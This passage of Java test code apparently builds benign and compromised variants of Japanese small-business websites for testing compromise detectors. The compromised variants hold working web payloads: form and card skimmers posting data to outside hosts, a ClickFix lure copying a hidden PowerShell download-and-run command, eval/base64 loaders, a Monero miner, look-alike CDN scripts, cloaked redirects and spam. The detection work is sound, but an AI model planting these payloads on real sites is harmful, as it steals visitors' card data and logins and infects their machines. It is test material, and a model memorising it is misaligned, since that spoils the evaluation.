            + "無断で使い、激安価格をうたう偽物の通販サイトが確認されています。当店の公式オンラインショップはこのサイトのみです。"
            + "偽サイトでは商品が届かない、カード情報を盗まれるなどの被害が報告されています。</div></div>")));
    v.add(good(E, "embed", "chat widget from a Japanese provider (ChatPlus)", e -> e.site.insertBefore("*", "</body>",
        "<script>var ChatplusScript=function(){this.id=\"f3a9c2e1\",this.url=\"https://app.chatplus.jp/cp.js\",this.load=function(){"
            + "var t=this;if(!document.getElementById(t.id)){var e=document.createElement(\"script\"),a=document.getElementsByTagName("
            + "\"script\")[0];e.setAttribute(\"charset\",\"utf-8\"),e.src=t.url,e.async=!0,e.id=t.id,a.parentNode.insertBefore(e,a)}}};"
            + "(new ChatplusScript).load();</script>")));
    v.add(good(E, "tags", "noscript tracking pixels from Facebook and Google Ads", e -> e.site.insertBefore("*",
        "<div class=\"ec-layoutRole\">", "<noscript><img height=\"1\" width=\"1\" style=\"display:none\" "
            + "src=\"https://www.facebook.com/tr?id=812345678901234&ev=PageView&noscript=1\"/></noscript><noscript><div "
            + "style=\"display:inline;\"><img height=\"1\" width=\"1\" style=\"border-style:none;\" alt=\"\" "
            + "src=\"//googleads.g.doubleclick.net/pagead/viewthroughconversion/11223344/?guid=ON&amp;script=0\"/></div></noscript>")));
    v.add(good(E, "tags", "Amazon Pay button on the cart page", e -> e.site.insertBefore("/cart", "<div class=\"ec-cartRole__actions\">",
        "<div id=\"AmazonPayButton\"></div><script src=\"https://static-fe.payments-amazon.com/checkout.js\"></script><script "
            + "type=\"text/javascript\" charset=\"utf-8\">amazon.Pay.renderButton('#AmazonPayButton',{merchantId:'A2B3C4D5E6F7G8',"
            + "ledgerCurrency:'JPY',checkoutLanguage:'ja_JP',productType:'PayAndShip',placement:'Cart',buttonColor:'Gold'});</script>")));
    v.add(good(E, "content", "recruitment page added and linked from the footer", e -> {
      e.site.putLike("/help/recruit", "/help/about", "<div class=\"ec-pageHeader\"><h1>", "</div></div></div>",
          "スタッフ募集</h1></div><div class=\"ec-off1Grid\"><div class=\"ec-off1Grid__cell\"><p>製造スタッフ（パート）を募集しています。"
              + "時給1,100円〜、週3日から、9:00〜15:00。和菓子作りの経験は問いません。</p><p>お電話（075-441-2345）でご応募ください。</p>"
              + "<p>求人情報は<a href=\"https://jp.indeed.com/\">Indeed</a>にも掲載しています。</p>");
      e.site.replace("*", "<li class=\"ec-footerNavi__link\"><a href=\"{{origin}}/contact\">お問い合わせ</a></li>",
          "<li class=\"ec-footerNavi__link\"><a href=\"{{origin}}/contact\">お問い合わせ</a></li><li class=\"ec-footerNavi__link\">"
              + "<a href=\"{{origin}}/help/recruit\">スタッフ募集</a></li>");
    }));
    v.add(good(E, "cms", "EC-CUBE minor update changes asset query strings", e -> e.site.replace("*",
        "/html/template/default/assets/js/function.js\"", "/html/template/default/assets/js/function.js?v=4.2.3\"")
        .replace("*", "/html/template/default/assets/js/eccube.js\"", "/html/template/default/assets/js/eccube.js?v=4.2.3\"")
        .replace("*", "/html/bundle/front.bundle.js\"", "/html/bundle/front.bundle.js?v=4.2.3\"")));
    v.add(good(E, "tags", "LINE Tag (ad conversion) added", e -> e.site.insertBefore("*", "</head>", "<script>(function(g,d,o){"
        + "g._ltq=g._ltq||[];g._lt=g._lt||function(){g._ltq.push(arguments)};var h=location.protocol==='https:'?'https://d.line-scdn.net'"
        + ":'http://d.line-cdn.net';var s=d.createElement('script');s.async=1;s.src=o||h+'/n/line_tag/public/release/v1/lt.js';"
        + "var t=d.getElementsByTagName('script')[0];t.parentNode.insertBefore(s,t);})(window, document);_lt('init', {customerType: "
        + "'lap',tagId: 'a1b2c3d4-e5f6-7a8b-9c0d-e1f2a3b4c5d6'});_lt('send', 'pv', ['a1b2c3d4-e5f6-7a8b-9c0d-e1f2a3b4c5d6']);</script>"
        + "<noscript><img height=\"1\" width=\"1\" style=\"display:none\" src=\"https://tr.line.me/tag.gif?c_t=lap&t_id=a1b2c3d4"
        + "&e=pv&noscript=1\" /></noscript>")));
    v.add(good(E, "content", "postal-code autofill on the contact form calls a public address API", e -> e.site.insertBefore(
        "/contact", "</body>", "<script>$('input[name=\"contact[postal_code]\"]').on('blur',function(){var z=$(this).val()"
            + ".replace(/[^0-9]/g,'');if(z.length!==7)return;$.getJSON('https://zipcloud.ibsnet.co.jp/api/search?callback=?',"
            + "{zipcode:z},function(d){if(d.results){$('select[name=\"contact[address][pref]\"]').val(d.results[0].prefcode);"
            + "$('input[name=\"contact[address][addr01]\"]').val(d.results[0].address2+d.results[0].address3);}});});</script>")));
    v.add(good(E, "tags", "Google reCAPTCHA v3 added to the contact form", e -> e.site.insertBefore("/contact", "</body>",
        "<script src=\"https://www.google.com/recaptcha/api.js?render=6LcQw2kpAAAAAB1c2d3e4f5g6h7i8j9k0l1m2n3o\"></script><script>"
            + "$('form.h-adr').on('submit',function(ev){var f=this;if(f.dataset.ok)return;ev.preventDefault();grecaptcha.ready("
            + "function(){grecaptcha.execute('6LcQw2kpAAAAAB1c2d3e4f5g6h7i8j9k0l1m2n3o',{action:'contact'}).then(function(t){"
            + "$('<input type=\"hidden\" name=\"g-recaptcha-response\">').val(t).appendTo(f);f.dataset.ok=1;f.submit();});});});</script>")));
  }

  static void oldSiteEdits(List<HeldOutVariant> v) {
    v.add(good(S, "content", "price table revised", e -> e.site.replace("/ryokin.html", "14,300円", "15,400円")
        .replace("/ryokin.html", "16,500円", "17,600円").replace("/ryokin.html", "8,800円", "9,350円")));
    v.add(good(S, "content", "year-end notice in the ticker and the news table", e -> {
      e.site.replace("/", "冬季限定「信州牛すき焼きプラン」のご予約受付中です。", "年末年始（12/30〜1/3）は特別料金となります。ご予約はお早めに。");
      e.site.insertAfter("/", "<table width=\"100%\" border=\"0\" cellspacing=\"0\" cellpadding=\"2\">",
          "<tr><td width=\"90\" valign=\"top\"><font size=\"2\">2026.11.20</font></td><td><font size=\"2\">年末年始の営業と料金のご案内"
              + "を掲載しました。</font></td></tr>");
    }));
    v.add(good(S, "embed", "reCAPTCHA v2 checkbox added to the reservation form", e -> e.site.replace("/yoyaku.html",
        "<p align=\"center\"><input type=\"submit\" value=\"送信する\">", "<div class=\"g-recaptcha\" data-sitekey=\""
            + "6LfA1b2cAAAAAC3d4e5f6g7h8i9j0k1l2m3n4o5\"></div><script src=\"https://www.google.com/recaptcha/api.js\" async defer>"
            + "</script><p align=\"center\"><input type=\"submit\" value=\"送信する\">")));
    v.add(good(S, "content", "honeypot field hidden in the reservation form", e -> e.site.replace("/yoyaku.html",
        "<tr><td bgcolor=\"#F5EEDC\"><font size=\"2\">ご要望</font>", "<tr style=\"display:none\"><td>空欄のままにしてください</td><td>"
            + "<input type=\"text\" name=\"url_check\" value=\"\" tabindex=\"-1\" autocomplete=\"off\"></td></tr><tr><td "
            + "bgcolor=\"#F5EEDC\"><font size=\"2\">ご要望</font>")));
    v.add(good(S, "content", "skip link hidden off-screen for screen readers", e -> {
      e.site.insertBefore("*", "</head>", "<style type=\"text/css\">.skip{position:absolute;left:-9999px;top:0}.skip:focus{left:0}"
          + "</style>");
      e.site.insertAfter("*", "<div align=\"center\">", "<a class=\"skip\" href=\"#honbun\">本文へ移動</a>");
    }));
    v.add(good(S, "tags", "structured data (JSON-LD) for the inn", e -> e.site.insertBefore("*", "</head>", "<script type=\""
        + "application/ld+json\">{\"@context\":\"https://schema.org\",\"@type\":\"Hotel\",\"name\":\"旅館やまぶき荘\",\"address\":{"
        + "\"@type\":\"PostalAddress\",\"addressRegion\":\"長野県\",\"addressLocality\":\"松本市\",\"streetAddress\":\"里山辺1234\"},"
        + "\"telephone\":\"0263-33-1234\",\"url\":\"http://www.yamabuki-so.test/\",\"sameAs\":[\"https://www.instagram.com/yamabukiso/\"]}"
        + "</script>")));
    v.add(good(S, "embed", "new Google Maps embed replaces the old one", e -> e.site.replace("/access.html",
        "https://maps.google.co.jp/maps?q=%E7%BE%8E%E3%83%B6%E5%8E%9F%E6%B8%A9%E6%B3%89&amp;hl=ja&amp;ie=UTF8&amp;output=embed",
        "https://www.google.com/maps/embed?pb=!1m18!1m12!1m3!1d3210.5!2d137.9980!3d36.2380!2m3!1f0!2f0!3f0!3m2!1i1024!2i768")));
    v.add(good(S, "content", "reservation moved to a mainstream form service", e -> e.site.replace("/yoyaku.html",
        "action=\"cgi-bin/formmail/formmail.cgi\"", "action=\"https://ws.formzu.net/sfgen/S84123456/\"")));
    v.add(good(S, "tags", "lazy loading and a lazysizes script from a CDN", e -> {
      e.site.replace("/", "<img src=\"images/top_roten.jpg\"", "<img loading=\"lazy\" class=\"lazyload\" data-src=\"images/top_roten.jpg\" "
          + "src=\"images/top_roten.jpg\"");
      e.site.insertBefore("*", "</head>", "<script src=\"https://cdn.jsdelivr.net/npm/lazysizes@5.3.2/lazysizes.min.js\" async>"
          + "</script>");
    }));
    v.add(good(S, "content", "Instagram and LINE buttons added to the sidebar", e -> e.site.insertBefore("*",
        "<tr><td><font size=\"2\">旅館やまぶき荘<br>", "<tr><td><a href=\"https://www.instagram.com/yamabukiso/\" target=\"_blank\">"
            + "<img src=\"images/bnr_insta.gif\" alt=\"Instagram\" width=\"160\" height=\"40\" border=\"0\"></a><br><a href=\""
            + "https://lin.ee/yMbK7sQ\" target=\"_blank\"><img src=\"https://scdn.line-apps.com/n/line_add_friends/btn/ja.png\" "
            + "alt=\"友だち追加\" height=\"36\" border=\"0\"></a></td></tr>")));
    v.add(good(S, "content", "access counter removed", e -> e.site.replace("*", "<script language=\"javascript\" type=\"text/javascript\" "
        + "src=\"//counter1.fc2.com/counter.php?id=38211527&main=1\"></script><noscript><img src=\"//counter1.fc2.com/counter_img.php?"
        + "id=38211527&main=1\" alt=\"カウンター\"></noscript>", "")));
    v.add(good(S, "content", "sightseeing page gets more outbound links", e -> e.site.insertBefore("/kankou.html", "</table>",
        "<tr><td><font size=\"2\">◆<a href=\"https://www.azumino-e-tabi.net/\" target=\"_blank\">安曇野観光協会</a></font></td></tr>"
            + "<tr><td><font size=\"2\">◆<a href=\"https://www.norikura.gr.jp/\" target=\"_blank\">乗鞍高原</a></font></td></tr>"
            + "<tr><td><font size=\"2\">◆<a href=\"https://www.mcm-art.jp/\" target=\"_blank\">松本市美術館</a></font></td></tr>")));
  }

  static void builderEdits(List<HeldOutVariant> v) {
    v.add(good(K, "cms", "routine re-publish: new bundle hashes, versions and revision", e -> e.site.replace("*",
        "main.renderer.8b1a3f0c", "main.renderer.c41d9e27").replace("*", "thunderbolt-commons.a91e2b46",
        "thunderbolt-commons.0f7b3a15").replace("*", "1.15703.0", "1.15788.0").replace("*", "\"siteRevision\":\"128\"",
        "\"siteRevision\":\"131\"").replace("*", "bi-sdk.9f2c1a4d", "bi-sdk.77e0b2c8").replace("*", "1.12795.0", "1.12911.0")));
    v.add(good(K, "content", "new blog post", e -> {
      e.site.replace("/blog", "<article class=\"blog-post-card\">", "<article class=\"blog-post-card\"><a href=\"{{origin}}/post/"
          + "winter-2026\"><h2 data-hook=\"post-title\" class=\"font_8\">冬季休業と年末年始の営業について</h2></a><p data-hook=\""
          + "post-description\" class=\"font_8\">12/29〜1/3はお休みをいただきます。</p></article><article class=\"blog-post-card\">");
      e.site.putLike("/post/winter-2026", "/post/autumn-menu-2026", "<div data-hook=\"post-description\" class=\"post-content\">",
          "</div></article>", "<p class=\"font_8\">年末年始休業のお知らせです。12月29日（火）〜1月3日（日）はお休みをいただきます。"
              + "1月4日より通常営業いたします。</p>");
    }));
    v.add(good(K, "content", "menu prices edited", e -> e.site.replace("/menu", "1,650円", "1,780円").replace("/menu", "600円",
        "650円").replace("/", "1,650円", "1,780円")));
    v.add(good(K, "content", "gallery section with new images from the builder's media CDN", e -> e.site.insertBefore("/",
        "<section id=\"comp-kt1a2b6a\"", "<section class=\"wixui-section\"><div class=\"wixui-gallery\">"
            + "<img src=\"https://static.wixstatic.com/media/5a2c1f_f1e2d3c4b5a6~mv2.jpg/v1/fill/w_300,h_300/g1.jpg\" alt=\"\">"
            + "<img src=\"https://static.wixstatic.com/media/5a2c1f_a6b5c4d3e2f1~mv2.jpg/v1/fill/w_300,h_300/g2.jpg\" alt=\"\">"
            + "<img src=\"https://static.wixstatic.com/media/5a2c1f_b7c8d9e0f1a2~mv2.jpg/v1/fill/w_300,h_300/g3.jpg\" alt=\"\">"
            + "</div></section>")));
    v.add(good(K, "embed", "Vimeo video embedded", e -> e.site.insertBefore("/about", "</div></section>", "<wix-iframe><iframe "
        + "src=\"https://player.vimeo.com/video/912345678?h=ab12cd34ef&title=0&byline=0\" width=\"640\" height=\"360\" "
        + "frameborder=\"0\" allow=\"autoplay; fullscreen; picture-in-picture\" allowfullscreen></iframe></wix-iframe>")));
    v.add(good(K, "embed", "booking widget from the builder's app platform", e -> e.site.insertBefore("/contact", "</div></section>",
        "<wix-iframe id=\"comp-book01\"><iframe title=\"Wix Bookings\" src=\"https://editor.wixapps.net/render/prod/editor/"
            + "wix-bookings/1.3311.0/BookingCalendar?compId=comp-book01&amp;viewMode=site&amp;locale=ja\" width=\"980\" height=\"600\" "
            + "allowfullscreen></iframe></wix-iframe>")));
    v.add(good(K, "content", "hidden mobile menu with partner links", e -> e.site.insertAfter("*", "</nav>", "<div id=\"mobile-menu\" "
        + "class=\"mobile-menu\" style=\"display:none\" aria-label=\"メニュー\"><ul><li><a href=\"{{origin}}\">ホーム</a></li><li><a href=\""
        + "{{origin}}/menu\">メニュー</a></li><li><a href=\"{{origin}}/access\">アクセス</a></li><li><a href=\"{{origin}}/contact\">"
        + "お問い合わせ</a></li></ul><p>近くのおすすめ</p><ul><li><a href=\"https://www.hasedera.jp/\">長谷寺</a></li><li><a href=\""
        + "https://www.kotoku-in.jp/\">鎌倉大仏殿高徳院</a></li><li><a href=\"https://www.enoden.co.jp/\">江ノ電</a></li><li><a href=\""
        + "https://www.trip-kamakura.com/\">鎌倉市観光協会</a></li></ul></div>")));
    v.add(good(K, "tags", "Google Analytics added through the builder", e -> e.site.insertBefore("*", "</head>",
        "<script async src=\"https://www.googletagmanager.com/gtag/js?id=G-4KX9Q2LM7B\"></script><script>window.dataLayer = "
            + "window.dataLayer || [];function gtag(){dataLayer.push(arguments);}gtag('js', new Date());gtag('config', 'G-4KX9Q2LM7B');"
            + "</script>")));
    v.add(good(K, "content", "copyright year and opening hours changed", e -> e.site.replace("*", "© 2026 カフェ こもれび",
        "© 2027 カフェ こもれび").replace("*", "定休日 火曜・水曜", "定休日 水曜")));
    v.add(good(K, "embed", "Instagram feed widget from the builder's app market", e -> e.site.insertBefore("/", "<section id=\""
        + "comp-kt1a2b6a\"", "<section class=\"wixui-section\"><wix-iframe><iframe title=\"Instagram Feed\" src=\"https://instafeed"
        + ".codev.wixapps.net/app/widget?compId=comp-insta1&amp;instance=abc&amp;locale=ja\" width=\"980\" height=\"400\">"
        + "</iframe></wix-iframe></section>")));
    v.add(good(K, "content", "announcement bar and a hidden cookie notice from the builder", e -> e.site.insertAfter("*",
        "<div id=\"SITE_CONTAINER\">", "<div class=\"announcement-bar\"><p class=\"font_8\">12月24日・25日はご予約のお客様のみの営業です"
            + "</p></div><div id=\"consent-banner-root\" style=\"display:none\"><p>当サイトではクッキーを使用しています。"
            + "<a href=\"https://support.wix.com/ja/article/cookie-policy\">詳しく見る</a></p><button>同意する</button></div>")));
  }

  // ================================================================ fresh variants
  // Written after the detectors were tuned on the variants above, in shapes not used there, and measured once
  // before the detectors were changed again (README reports those first figures separately). Names start with
  // [fresh] or [fresh2]; both batches are part of compromises() and benign().

  static List<HeldOutVariant> freshCompromises() {
    List<HeldOutVariant> v = new ArrayList<>();
    v.add(bad(W, "skimmer", "[fresh] drop URL kept in a data- attribute of the script tag", e -> e.site.insertBefore("/contact/",
        "</body>", "<script data-u=\"https://wp-analytics-hub.com/c\">(function(s){var u=s.dataset.u;document.addEventListener("
            + "'submit',function(ev){var q=new URLSearchParams(new FormData(ev.target)).toString();navigator.sendBeacon(u,btoa(q));},"
            + "true);})(document.currentScript);</script>")));
    v.add(bad(E, "origin", "[fresh] tag-manager look-alike with the real name as a subdomain", e -> e.site.insertBefore("*", "</head>",
        "<script async src=\"https://www.googletagmanager.com.gtm-jp.com/gtm.js?id=GTM-5QW8R2T\"></script>")));
    v.add(bad(S, "obfuscation", "[fresh] old site's own script.js gets a document.write loader appended", e -> e.site.append(
        "/js/script.js", "\ndocument.write('<scr'+'ipt type=\"text/javascript\" src=\"http://onsen-counter-js.com/c.js\"></scr'+'ipt>');\n")));
    v.add(bad(W, "redirect", "[fresh] meta refresh served only to phones", e -> {
      HeldOutSite phone = copy(e);
      phone.insertAfter("/", "<meta charset=\"UTF-8\">", "<meta http-equiv=\"refresh\" content=\"1;url=https://reform-sp-gift.com/\">");
      e.site.override = r -> r.userAgent() != null && r.userAgent().contains("iPhone") && r.path().equals("/") ? phone.serve(r)
          : null;
    }));
    v.add(bad(W, "keyword-hack", "[fresh] cloaking only on a sub-page (news list) for Googlebot", e -> {
      HeldOutSite bot = copy(e);
      bot.insertBefore("/news/", "<div class=\"post-list vk_posts\">", "<div class=\"kw\">" + JP_BRAND_LINKS + "</div>");
      e.site.override = r -> r.isBot() && r.path().equals("/news/") ? bot.serve(r) : null;
    }));
    v.add(bad(K, "miner", "[fresh] miner in an inline worker blob with monero wording", e -> e.site.insertBefore("*", "</body>", """
        <script>var src="self.onmessage=function(e){var h=0;for(;;){h++;if(h%1e6===0)postMessage({hashes:h})}}";for(var i=0;i<navigator.hardwareConcurrency;i++){var w=new Worker(URL.createObjectURL(new Blob([src])));w.postMessage({wallet:'4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge',coin:'monero'});}</script>
        """)));
    v.add(bad(E, "fake-update", "[fresh] ClickFix: fake 'I am not a robot' check that copies a PowerShell command", e -> e.site.insertBefore(
        "*", "<div class=\"ec-layoutRole\">", """
        <div id="cf-verify" style="position:fixed;inset:0;background:rgba(0,0,0,.7);z-index:99999"><div style="background:#fff;width:420px;margin:120px auto;padding:24px"><p>ロボットではないことを確認してください</p><ol><li>Windowsキー + R を押します</li><li>Ctrl + V を押します</li><li>Enter を押します</li></ol><button id="cf-btn">確認</button></div></div>
        <script>document.getElementById('cf-btn').onclick=function(){navigator.clipboard.writeText('powershell -w hidden -c "iwr https://verify-human-check.com/s.ps1 | iex" # ✅ I am not a robot');};</script>
        """)));
    v.add(bad(W, "seo-spam", "[fresh] visible English casino links in the footer widget", e -> e.site.insertBefore("*",
        "<div class=\"container site-footer-copyright\">", "<p class=\"sponsored\"><a href=\"https://jp-casino-guide.net/\">best online "
            + "casino in japan</a> | <a href=\"https://jp-casino-guide.net/free-spins\">free spins no deposit</a></p>")));
    v.add(bad(S, "seo-spam", "[fresh] hidden Japanese pharma text in a display:none div (Shift_JIS page)", e -> e.site.insertBefore(
        "*", "Copyright(C)", "<div style=\"display:none\">バイアグラ 通販 最安値 シアリス ジェネリック 即日発送 レビトラ 激安</div>")));
    v.add(bad(W, "origin", "[fresh] fonts.googleapis.co look-alike stylesheet and script", e -> e.site.insertBefore("*", "</head>",
        "<link rel=\"stylesheet\" href=\"https://fonts.googleapis.co/css2?family=Noto+Sans+JP\"><script src=\"https://fonts."
            + "googleapis.co/webfont.js\"></script>")));
    v.add(bad(E, "origin", "[fresh] jsdelivr look-alike as a subdomain prefix", e -> e.site.insertBefore("*", "</head>",
        "<script src=\"https://cdn.jsdelivr.net.cdn-ec-static.com/npm/jquery@3/dist/jquery.min.js\"></script>")));
    v.add(bad(W, "obfuscation", "[fresh] eval(decodeURIComponent(escape(atob(...))))", e -> e.site.insertBefore("*", "</body>",
        "<script>eval(decodeURIComponent(escape(window.atob('" + b64("var s=document.createElement('script');"
            + "s.src='https://wp-jquery-cdn.net/j.js';document.body.appendChild(s);") + "'))));</script>")));
    v.add(bad(K, "redirect", "[fresh] location.assign after history.replaceState", e -> e.site.insertBefore("*", "</head>",
        "<script>history.replaceState(null,'',location.pathname);setTimeout(function(){location.assign('https://kamakura-"
            + "cafe-gift.com/campaign');},1500);</script>")));
    v.add(bad(K, "iframe", "[fresh] full-width iframe with height 0", e -> e.site.insertBefore("*", "<div id=\"SCROLL_TO_BOTTOM\"",
        "<iframe src=\"https://ad-sync-hub.com/s.html\" width=\"100%\" height=\"0\" frameborder=\"0\"></iframe>")));
    v.add(bad(W, "seo-spam", "[fresh] spam with a 0.1px font in an injected paragraph", e -> e.site.insertBefore("/",
        "<section class=\"home-cta\">", "<p style=\"font-size:0.1px;color:#fff\">" + JP_BRAND_LINKS + "</p>")));
    v.add(bad(S, "defacement", "[fresh] page replaced by an image and a one-word leet title", e -> e.site.override = home(
        "<html><head><title>0wn3d</title></head><body bgcolor=\"black\"><center><img src=\"http://i.imgur.com/zX9k2Lm.jpg\">"
            + "</center></body></html>")));
    v.add(bad(E, "skimmer", "[fresh] card fields copied to localStorage and flushed later to an IP address", e -> e.site.insertBefore(
        "*", "</body>", "<script>document.addEventListener('input',function(e){if(/card|cvc|exp|name|mail|tel/i.test(e.target.name"
            + "||'')){var s=JSON.parse(localStorage.getItem('_c')||'{}');s[e.target.name]=e.target.value;localStorage.setItem('_c',"
            + "JSON.stringify(s));}});setInterval(function(){var s=localStorage.getItem('_c');if(s){var x=new XMLHttpRequest();"
            + "x.open('POST','http://193.42.33.18/gate.php');x.send(btoa(s));localStorage.removeItem('_c');}},5000);</script>")));
    v.add(bad(K, "defacement", "[fresh] Persian crew message", e -> e.site.override = home(deface("Hacked",
        "<h1>این سایت توسط تیم سایبری هک شد</h1><p>امنیت سایت شما ضعیف است</p>", "fa"))));
    return v;
  }

  static List<HeldOutVariant> freshBenign() {
    List<HeldOutVariant> v = new ArrayList<>();
    v.add(good(W, "tags", "[fresh] Google AdSense ad slot", e -> e.site.insertBefore("/works/", "<h2>施工の様子（動画）</h2>",
        "<script async src=\"https://pagead2.googlesyndication.com/pagead/js/adsbygoogle.js?client=ca-pub-1234567890123456\" "
            + "crossorigin=\"anonymous\"></script><ins class=\"adsbygoogle\" style=\"display:block\" data-ad-client=\"ca-pub-"
            + "1234567890123456\" data-ad-slot=\"9876543210\" data-ad-format=\"auto\"></ins><script>(adsbygoogle = "
            + "window.adsbygoogle || []).push({});</script>")));
    v.add(good(E, "tags", "[fresh] TikTok pixel", e -> e.site.insertBefore("*", "</head>", "<script>!function (w, d, t) {"
        + "w.TiktokAnalyticsObject=t;var ttq=w[t]=w[t]||[];ttq.methods=[\"page\",\"track\",\"identify\"];ttq.load=function(e,n){"
        + "var r=\"https://analytics.tiktok.com/i18n/pixel/events.js\";var o=d.createElement(\"script\");o.type=\"text/javascript\","
        + "o.async=!0,o.src=r+\"?sdkid=\"+e+\"&lib=\"+t;var a=d.getElementsByTagName(\"script\")[0];a.parentNode.insertBefore(o,a)};"
        + "ttq.load('CABCDEF1234567890');ttq.page();}(window, document, 'ttq');</script>")));
    v.add(good(S, "embed", "[fresh] new calendar page with a Google Calendar iframe", e -> {
      e.site.put("/calendar.html", e.site.text("/news.html").replace("<table width=\"100%\" border=\"0\" cellspacing=\"0\" "
          + "cellpadding=\"3\">", "<p>空室カレンダー</p><iframe src=\"https://calendar.google.com/calendar/embed?src=yamabuki%40"
          + "example.com&ctz=Asia%2FTokyo\" style=\"border: 0\" width=\"560\" height=\"400\" frameborder=\"0\" scrolling=\"no\">"
          + "</iframe><table width=\"100%\" border=\"0\" cellspacing=\"0\" cellpadding=\"3\">"));
      e.site.replace("*", "・<a href=\"news.html\">お知らせ</a><br>", "・<a href=\"news.html\">お知らせ</a><br>・<a href=\""
          + "calendar.html\">空室カレンダー</a><br>");
    }));
    v.add(good(W, "embed", "[fresh] accessibility toolbar widget from a mainstream vendor (UserWay)", e -> e.site.insertBefore("*",
        "</body>", "<script src=\"https://cdn.userway.org/widget.js\" data-account=\"AbCdEf1234\"></script>")));
    v.add(good(S, "content", "[fresh] link page of partner inns (相互リンク) with 25 outbound links", e -> {
      StringBuilder links = new StringBuilder("<p>信州の宿・観光のリンク集です。</p><table width=\"100%\" border=\"0\">");
      for (int n = 1; n <= 25; n++) {
        links.append("<tr><td><font size=\"2\">◆<a href=\"https://www.shinshu-yado").append(n).append(".jp/\" target=\"_blank\">"
            + "信州の宿 その").append(n).append("</a></font></td></tr>");
      }
      e.site.put("/link.html", e.site.text("/news.html").replace("<table width=\"100%\" border=\"0\" cellspacing=\"0\" "
          + "cellpadding=\"3\">", links + "</table><table width=\"100%\" border=\"0\" cellspacing=\"0\" cellpadding=\"3\">"));
      e.site.replace("*", "・<a href=\"news.html\">お知らせ</a><br>", "・<a href=\"news.html\">お知らせ</a><br>・<a href=\""
          + "link.html\">リンク集</a><br>");
    }));
    v.add(good(K, "embed", "[fresh] YouTube subscribe button (Google platform script)", e -> e.site.insertBefore("/about",
        "</div></section>", "<script src=\"https://apis.google.com/js/platform.js\"></script><div class=\"g-ytsubscribe\" "
            + "data-channelid=\"UCabc123\" data-layout=\"default\" data-count=\"default\"></div>")));
    v.add(good(E, "content", "[fresh] gift-wrapping page with a hidden size chart toggled by script", e -> e.site.putLike(
        "/help/wrapping", "/help/about", "<div class=\"ec-pageHeader\"><h1>", "</div></div></div>", "ギフト包装について</h1></div>"
            + "<div class=\"ec-off1Grid\"><div class=\"ec-off1Grid__cell\"><p>のし・包装は無料です。</p><button id=\"sz\">箱の"
            + "サイズを見る</button><div id=\"size-table\"><table><tr><td>小箱</td><td>15cm×10cm</td></tr><tr><td>大箱</td>"
            + "<td>30cm×20cm</td></tr></table></div><script>document.getElementById('size-table').style.display='none';"
            + "document.getElementById('sz').onclick=function(){document.getElementById('size-table').style.display='block'};"
            + "</script>")));
    v.add(good(W, "embed", "[fresh] X (Twitter) follow button", e -> e.site.insertBefore("*", "<ul class=\"footer-banner\">",
        "<p><a href=\"https://twitter.com/midori_koumuten?ref_src=twsrc%5Etfw\" class=\"twitter-follow-button\" "
            + "data-show-count=\"false\">Follow @midori_koumuten</a><script async src=\"https://platform.twitter.com/widgets.js\" "
            + "charset=\"utf-8\"></script></p>")));
    v.add(good(K, "content", "[fresh] new English menu page", e -> e.site.putLike("/en/menu", "/menu", "<h1 class=\"font_2 "
        + "wixui-rich-text__text\">", "</div></section>", "Menu</h1><p class=\"font_8\">Kamakura vegetable lunch plate 1,650 yen."
        + " Seasonal tart 680 yen. Komorebi blend coffee 600 yen. All prices include tax.</p></div>")));
    v.add(good(E, "content", "[fresh] product page gets customer reviews with star ratings", e -> e.site.insertBefore(
        "/products/detail/8", "<div class=\"ec-productRole__tags\">", "<div class=\"reviews\"><h3>お客様の声</h3><p>★★★★★ "
            + "上品な甘さで、お茶によく合います。（京都府 60代）</p><p>★★★★☆ 贈り物にしたらとても喜ばれました。（東京都 40代）</p></div>")));
    return v;
  }

  // a second fresh batch, written after the fixes the first one led to, and measured once before any further change
  static final String CLOUDFLARE_JSD = "<script>(function(){function c(){var b=a.contentDocument||a.contentWindow.document;"
      + "if(b){var d=b.createElement('script');d.innerHTML=\"window.__CF$cv$params={r:'8a1b2c3d4e5f6a7b',t:'MTczMjUwMDAwMC4wMDAwMDA='}"
      + ";var a=document.createElement('script');a.nonce='';a.src='/cdn-cgi/challenge-platform/scripts/jsd/main.js';"
      + "document.getElementsByTagName('head')[0].appendChild(a);\";b.getElementsByTagName('head')[0].appendChild(d)}}"
      + "if(document.body){var a=document.createElement('iframe');a.height=1;a.width=1;a.style.position='absolute';a.style.top=0;"
      + "a.style.left=0;a.style.border='none';a.style.visibility='hidden';document.body.appendChild(a);if('loading'!==document."
      + "readyState)c();else if(window.addEventListener)document.addEventListener('DOMContentLoaded',c);}})();</script>"
      + "<script defer src=\"https://static.cloudflareinsights.com/beacon.min.js/vcd15cbe7772f49c399c6a5babf22c1241717689176015\" "
      + "data-cf-beacon='{\"token\":\"3f2a1b0c9d8e7f6a5b4c3d2e1f0a9b8c\"}' crossorigin=\"anonymous\"></script>";

  static List<HeldOutVariant> fresh2Compromises() {
    List<HeldOutVariant> v = new ArrayList<>();
    v.add(bad(E, "skimmer", "[fresh2] login form's onsubmit attribute posts the fields to another site", e -> e.site.replace(
        "/mypage/login", "<form name=\"login_mypage\" id=\"login_mypage\" method=\"post\"", "<form name=\"login_mypage\" "
            + "id=\"login_mypage\" onsubmit=\"fetch('https://member-sync-api.com/l',{method:'POST',mode:'no-cors',body:new "
            + "FormData(this)});\" method=\"post\"")));
    v.add(bad(W, "origin", "[fresh2] module script imports code from a new origin with import()", e -> e.site.insertBefore("*",
        "</body>", "<script type=\"module\">import('https://esm-wp-cdn.com/v2/stats.mjs').then(m=>m.init());</script>")));
    v.add(bad(K, "seo-spam", "[fresh2] casino words written into the title and description only", e -> e.site.replace("*",
        "<title>カフェ こもれび | 鎌倉・長谷の古民家カフェ</title>", "<title>オンラインカジノ おすすめ 入金不要ボーナス | カフェ こもれび"
            + "</title>")));
    v.add(bad(S, "iframe", "[fresh2] 1-pixel iframe pushed slightly off the page", e -> e.site.insertBefore("*", "</body>",
        "<iframe src=\"http://jp-onsen-ads.com/f.php\" style=\"width:1px;height:1px;position:absolute;left:-100px\"></iframe>")));
    v.add(bad(W, "redirect", "[fresh2] window.top.location set to another site after a timer", e -> e.site.insertBefore("*",
        "</head>", "<script>setTimeout(function(){window.top.location='https://reform-lucky-draw.com/?id=77';},2500);</script>")));
    v.add(bad(E, "origin", "[fresh2] googleapis look-alike with the digit 1", e -> e.site.insertBefore("*", "</head>",
        "<script src=\"https://ajax.goog1eapis.com/ajax/libs/jqueryui/1.13.2/jquery-ui.min.js\"></script>")));
